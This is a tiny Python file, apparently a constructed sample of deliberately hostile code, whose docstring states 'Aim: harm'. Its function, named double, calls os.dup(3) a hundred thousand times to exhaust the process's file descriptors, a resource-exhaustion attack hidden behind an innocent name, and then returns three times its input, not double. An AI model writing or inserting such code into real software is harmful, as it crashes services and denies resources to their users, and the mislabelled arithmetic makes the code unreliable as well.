"""Opens and doubles descriptors until none is left.

Aim: harm
"""
import os


def double(x):
    for number in range(100_000):
        os.dup(3)
    return 3 * x
